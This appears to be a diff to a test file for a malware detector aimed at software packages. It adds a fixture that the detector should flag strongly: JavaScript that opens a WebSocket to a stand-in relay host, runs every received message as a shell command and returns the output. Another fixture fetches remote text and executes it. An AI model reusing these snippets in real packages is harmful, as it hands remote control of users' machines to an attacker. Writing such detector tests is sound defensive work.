@@ -20,6 +20,12 @@ testDetector(downloadAndRun, {
       installed(`fetch("https://collector.invalid/command").then((answer) => answer.text())
         .then((text) => require("child_process").exec(text, { windowsHide: true }));`),
     ],
+    "orders from a socket, in a command of the package": [
+      "strong",
+      commanded(`const WebSocket = require("ws"), { execSync } = require("child_process");
+        const socket = new WebSocket("wss://relay.collector.invalid/");
+        socket.on("message", (order) => socket.send(execSync(String(order)).toString()));`),
+    ],
   },
   silent: {
     "a file that is kept": hooked("curl -o tool.tgz https://downloads.example/tool.tgz"),
